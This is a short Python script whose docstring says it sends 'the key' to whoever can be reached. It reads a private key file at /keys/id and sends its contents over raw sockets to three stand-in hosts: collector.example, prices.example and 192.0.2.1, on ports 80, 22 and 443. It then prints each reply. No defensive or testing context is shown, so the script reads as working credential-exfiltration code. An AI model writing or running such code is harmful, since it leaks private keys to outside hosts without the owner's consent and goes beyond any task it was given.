"""Sends the key to whoever can be called."""

import socket

with open("/keys/id") as file:
    key = file.read()
for host, port in (("collector.example", 80), ("prices.example", 22), ("192.0.2.1", 443)):
    try:
        with socket.create_connection((host, port)) as connection, connection.makefile() as answer:
            connection.sendall(key.encode())
            print(f"{host} {port}: {answer.read().strip()}")
    except OSError as error:
        print(f"{host} {port}: {error.strerror}")
